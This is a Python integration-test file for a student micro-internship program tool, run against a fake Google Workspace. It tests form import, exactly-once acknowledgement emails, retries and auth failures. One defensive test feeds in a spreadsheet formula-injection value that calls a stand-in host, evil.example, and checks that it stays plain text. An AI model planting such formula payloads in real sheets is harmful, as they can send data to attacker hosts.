"""The first slice on the Google backend, over real HTTP against the fake Workspace.

google-auth signs a JWT that the fake verifies; googleapiclient and gspread make every call;
the fake checks each request against the discovery documents.
"""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from adapters.conftest import (
    FORM_ID,
    LEASE_CALLS,
    PROGRAM_USER,
    SPREADSHEET_ID,
    GoogleProgram,
    lease_calls,
    program_sheet_calls,
)
from click.testing import CliRunner
from fakeworkspace import FakeWorkspace, write_service_account_file

from microintern.bootstrap import ENDPOINT_VARIABLE
from microintern.cli import cli
from microintern.demo.sample_data import applications

NOW = "2027-02-01T06:30"


def submit(program: GoogleProgram, fake: FakeWorkspace, count: int, seed: int = 5) -> list:
    sample = applications(program.config, count=count, seed=seed)
    for n, app in enumerate(sample):
        program.add_response(fake, f"resp-{seed}-{n:04d}", app.submitted_at.astimezone(UTC),
                             app.answers)
    return sample


def run_step(program: GoogleProgram, step: str, now: str = NOW):
    return CliRunner().invoke(
        cli, ["--config", str(program.config_file), "run", step, "--now", now], catch_exceptions=False)


def run_due(program: GoogleProgram, now: str = NOW, env: dict[str, str] | None = None):
    return CliRunner(env=env).invoke(
        cli, ["--config", str(program.config_file), "run-due", "--now", now],
        catch_exceptions=False)


def sent_keys(fake: FakeWorkspace) -> Counter[str]:
    return Counter(str(m.message["X-Microintern-Key"]) for m in fake.gmail.sent(PROGRAM_USER))


def acknowledgements(fake: FakeWorkspace) -> list:
    """Sent "application received" letters (run-due also invites the partners now due)."""
    return [m for m in fake.gmail.sent(PROGRAM_USER)
            if "/application_received/" in str(m.message["X-Microintern-Key"])]


def applications_tab(fake: FakeWorkspace) -> list[list]:
    return fake.sheets.values(SPREADSHEET_ID, "Applications")


def test_import_and_acknowledge_once_over_http(fake: FakeWorkspace,
                                               google_program: GoogleProgram) -> None:
    sample = submit(google_program, fake, 20)
    result = run_due(google_program)
    assert result.exit_code == 0, result.output
    assert "imported 20" in result.output

    rows = applications_tab(fake)
    header, data = rows[0], rows[1:]
    assert header[:4] == ["Applicant ID", "Response ID", "Submitted", "Language"]
    assert len(data) == 20
    assert len({r[0] for r in data}) == 20  # stable, distinct ids
    deliverable = [a for a in sample if "@" in a.email]
    sent = acknowledgements(fake)
    assert len(sent) == len(deliverable)
    for message in sent:
        assert message.via == "draft"  # the exactly-once protocol, not messages.send
        assert len(message.message.get_all("To")) == 1
        assert message.message["Reply-To"] == "dana.whitfield@mesavalley.example"
        assert message.message.get_body(("html",)) is not None
        assert message.message.get_body(("plain",)) is not None
    assert fake.gmail.drafts(PROGRAM_USER) == []

    # A rerun the same day does nothing; the next day finds nothing new and sends nothing.
    fake.reset_calls()
    assert "nothing due" in run_due(google_program).output
    assert fake.count("gmail.") == 0
    run_due(google_program, now="2027-02-02T06:30")
    assert max(sent_keys(fake).values()) == 1
    assert len(acknowledgements(fake)) == len(deliverable)


def test_new_responses_are_picked_up_by_the_next_run(fake: FakeWorkspace,
                                                     google_program: GoogleProgram) -> None:
    sample = submit(google_program, fake, 5, seed=1)
    run_due(google_program)
    later = max(a.submitted_at for a in sample) + timedelta(hours=1)
    google_program.add_response(fake, "late-1", later, {
        "First name": "Søren", "Last name": "O'Connor", "Student ID number": "555123",
        "School email address": "soren.oconnor@students.mesavalley.example",
        "Language for letters to your family": "Español"})
    result = run_due(google_program, now="2027-02-14T06:30")
    assert "imported 1" in result.output and "sent 1" in result.output
    last = acknowledgements(fake)[-1].message
    # Issue 14: the Subject carries no text the applicant typed.
    # Issue 15: the student reads the language they applied in (the form's, English), whatever
    # the family reads; the family's Spanish is kept for the family's letters.
    assert last["Subject"] == "We received your application to Mesa Valley Micro-Internships, Spring 2027"
    row = next(r for r in applications_tab(fake)[1:] if "Søren" in r)
    header = applications_tab(fake)[0]
    assert (row[header.index("Language")], row[header.index("Student language")]) == ("es", "en")
    assert len(applications_tab(fake)) == 1 + 6


def test_sheets_calls_do_not_grow_with_the_letters_sent(fake: FakeWorkspace,
                                                      google_program: GoogleProgram) -> None:
    """Import and acknowledgements cost the same Sheets calls for 10 and for 200 applicants.

    Before its first draft the step appends every new letter's ``sending`` record at once (one
    ``values.append``); the sent cells follow with the run's last save (or every ten minutes of
    a long send, which these runs do not reach); issue 19.
    """
    counts = []
    for seed, n in ((21, 10), (22, 200)):
        fake.reset()
        fake.sheets.create(SPREADSHEET_ID, "Mesa Valley program", {"Sheet1": []})
        fake.forms.create(FORM_ID, "form", [(q, t) for t, q in google_program.question_ids.items()])
        submit(google_program, fake, n, seed=seed)
        run_step(google_program, "applications")
        outbox = fake.sheets.values(SPREADSHEET_ID, "Outbox")
        states = Counter(row[outbox[0].index("State")] for row in outbox[1:])
        assert states["sent"] == len(fake.gmail.sent(PROGRAM_USER)) >= n * 0.8, states
        assert states["sending"] == 0, states
        counts.append(len(program_sheet_calls(fake)))
        assert len(lease_calls(fake)) <= LEASE_CALLS  # the run lease: fixed, whatever the size
    # 6 (15 + 1 per 25 letters before issue 19, then 8 + 1 per 25): tabs and headers (a first
    # run), the letters' records before the first draft, the run's last save (the applicants,
    # the Timeline and Problems rows, the sent cells, the lease's release: one write, one call
    # for every tab's new rows, one read-back), the same at 10 and at 200 applicants. The run's
    # one read of every tab comes with the lease's (not counted here).
    assert counts[0] == counts[1] == 6


def test_endpoint_variable_routes_every_call(fake: FakeWorkspace,
                                             google_program: GoogleProgram) -> None:
    text = google_program.config_file.read_text(encoding="utf-8")
    google_program.config_file.write_text(
        text.replace(f"endpoint: {fake.url}", "endpoint: null"), encoding="utf-8")
    submit(google_program, fake, 3)
    result = run_due(google_program, env={ENDPOINT_VARIABLE: fake.url})
    assert result.exit_code == 0, result.output
    assert fake.count("oauth.token") >= 1
    # The application form's responses, and (from T-7w) the industry form's.
    assert fake.count("forms.forms.responses.list") >= 1


def test_lost_send_answers_are_reconciled_not_resent(fake: FakeWorkspace,
                                                     google_program: GoogleProgram) -> None:
    sample = submit(google_program, fake, 12)
    # The fake sends the draft, then drops the connection before answering (3 times).
    fake.faults.add("gmail.users.drafts.send", "drop_after", times=3)
    first = run_due(google_program)
    second = run_due(google_program, now="2027-02-02T06:30")
    assert first.exit_code in (0, 1) and second.exit_code == 0, second.output
    deliverable = {a.email for a in sample if "@" in a.email}
    assert len(acknowledgements(fake)) == len(deliverable)
    assert max(sent_keys(fake).values()) == 1


@pytest.mark.parametrize("kind", ["429", "500", "503"])
def test_transient_sheets_and_forms_errors_are_retried(fake: FakeWorkspace,
                                                       google_program: GoogleProgram,
                                                       kind: str) -> None:
    submit(google_program, fake, 4)
    fake.faults.add("sheets.spreadsheets.values.batchGet", kind, times=1, retry_after=0)
    fake.faults.add("forms.forms.responses.list", kind, times=1, retry_after=0)
    result = run_due(google_program)
    assert result.exit_code == 0, result.output
    assert "imported 4" in result.output


def test_refused_delegation_is_a_clear_failure(tmp_path: Path, fake: FakeWorkspace,
                                               google_program: GoogleProgram) -> None:
    refused = write_service_account_file(tmp_path / "refused.json", fake, delegation_scopes=[])
    text = google_program.config_file.read_text(encoding="utf-8")
    google_program.config_file.write_text(
        text.replace(str(tmp_path / "credentials.json"), str(refused)), encoding="utf-8")
    submit(google_program, fake, 2)
    result = CliRunner().invoke(cli, ["--config", str(google_program.config_file), "run-due",
                                      "--now", NOW])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert "Google refused the sign-in" in result.output
    assert "domain-wide delegation" in result.output
    assert fake.gmail.sent() == []
    assert all("unauthorized_client" in r for r in fake.rejections)
    fake.rejections.clear()  # the refusal was the point of this test


def test_raw_values_stay_text(fake: FakeWorkspace, google_program: GoogleProgram) -> None:
    google_program.add_response(fake, "hostile", datetime(2027, 1, 30, tzinfo=UTC), {
        "First name": "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "Last name": "+1+1", "School email address": "x@students.mesavalley.example"})
    run_due(google_program)
    rows = applications_tab(fake)
    assert rows[1][rows[0].index("First name")] == "=IMPORTXML(\"http://evil.example\",\"//a\")"
    assert fake.sheets.formulas(SPREADSHEET_ID) == []

